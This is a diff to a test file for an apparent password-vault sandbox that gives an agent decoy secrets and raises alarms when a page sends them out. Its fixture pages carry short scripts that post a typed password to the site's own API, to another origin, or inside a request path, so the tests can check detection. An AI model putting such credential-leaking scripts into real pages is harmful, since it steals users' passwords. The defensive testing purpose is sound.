@@ -55,6 +55,20 @@ const pages: Record<string, (at: { evil: string; port: string }) => string> = {
   '/typed': () =>
     `<input name="pass" type="password" oninput="this.oninput = null; fetch('/api', { method: 'POST', body: btoa(this.value) })">`,
   '/socket': () => `<input name="pass" type="password"><button id="send">x</button>`,
+  '/strength': () =>
+    `<form method="post" action="/session"><input name="user">${password}${button}</form><script>
+    const pass = document.querySelector('[name=pass]'), json = {'content-type': 'application/json'};
+    pass.oninput = () => fetch('/api/strength', {method: 'POST', body: new URLSearchParams({candidate: pass.value})});
+    pass.onblur = () => fetch('/api/validate', {method: 'POST', headers: json, body: JSON.stringify({password: pass.value})});
+    pass.onchange = () => navigator.sendBeacon('/api/replay', JSON.stringify({value: pass.value}));</script>`,
+  '/leaking': ({ port }) =>
+    `<form method="post" action="/session">${password}${button}</form><script>
+    const pass = document.querySelector('[name=pass]');
+    pass.oninput = () => fetch('http://localhost:${port}/api', {method: 'POST', mode: 'no-cors', body: new URLSearchParams({candidate: pass.value})});</script>`,
+  '/naming': () =>
+    `<form method="post" action="/session">${password}${button}</form><script>
+    const pass = document.querySelector('[name=pass]');
+    pass.oninput = () => fetch('/api/' + encodeURIComponent(pass.value), {method: 'POST'});</script>`,
   '/hashing': () =>
     `${password}<button id="send" onclick="document.title = document.querySelector('input').value; location = '/other'">x</button>`,
 };
@@ -162,7 +176,7 @@ test('a script tells this site alone the account under any name, and so neither 
   const scope = { kind: 'scope', url: `${evil.url}/x` };
   await expect
     .poll(() => browser.alarms)
-    .toMatchObject([scope, { kind: 'decoy', method: 'POST', url: `${site.url}/api` }]);
+    .toMatchObject([scope, { kind: 'own-site', method: 'POST', url: `${site.url}/api` }]);
   expect(JSON.stringify(evil.received)).not.toMatch(/lovelace/);
 
   [site.received.length, browser.alarms.length] = [0, 0];
@@ -293,6 +307,38 @@ test.each([
     expect(site.received).toEqual([]);
   },
 );
+
+test('a page that tells its own site what is typed, to check it or as telemetry, sends nothing of it, and the log-in goes on [vault.sandbox.decoy.own-site]', async () => {
+  await go('/strength');
+  await fill('[name=user]', [secretOf(name, { isName: true })]);
+  await fill('[name=pass]', [secretOf(word)]);
+  expect(await click()).toEqual(done);
+  expect(posts().map(({ url, body }) => [url, Object.fromEntries(new URLSearchParams(body))])).toEqual([
+    ['/session', { user: name, pass: word }],
+  ]);
+  const told = browser.alarms.map((alarm) => [alarm.kind, new URL(alarm.url).pathname]);
+  expect(new Set(told.map(String))).toEqual(
+    new Set(['own-site,/api/strength', 'own-site,/api/validate', 'own-site,/api/replay']),
+  );
+});
+
+test.each(['/leaking', '/naming'])(
+  'the same is an alarm where it goes to another origin or stands in the address: %s [vault.sandbox.decoy.alarm]',
+  async (path) => {
+    await go(path);
+    await fill('[name=pass]', [secretOf(word)]);
+    await expect.poll(() => browser.alarms.map(({ kind }) => kind)).toContain('decoy');
+    expect(posts()).toEqual([]);
+  },
+);
+
+test('the same is an alarm once a script of the agent had a hand in the page [vault.sandbox.decoy.alarm]', async () => {
+  await go('/strength');
+  await script('document.title = "mine"');
+  await fill('[name=pass]', [secretOf(word)]);
+  await expect.poll(() => browser.alarms.map(({ kind }) => kind)).toContain('decoy');
+  expect(posts()).toEqual([]);
+});
 
 test('a secret is sent once; a redirect that repeats it is stopped [vault.sandbox.decoy.once]', async () => {
   await go('/again');
